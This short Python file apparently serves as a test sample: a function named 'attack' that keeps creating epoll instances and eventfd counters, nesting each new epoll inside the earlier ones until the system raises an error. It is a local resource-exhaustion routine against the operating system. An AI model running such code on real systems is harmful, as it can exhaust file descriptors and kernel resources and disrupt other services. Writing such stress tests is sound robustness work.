"""As many watched descriptors and counters as there may be, each waking the others."""
import os
import select


def attack(x):
    held = []
    try:
        while True:
            inner, counter = select.epoll(), os.eventfd(1)
            inner.register(counter, select.EPOLLIN)
            for other in held:
                if isinstance(other, select.epoll):
                    other.register(inner, select.EPOLLIN)
            held += [inner, counter]
    except OSError:
        pass
    return x
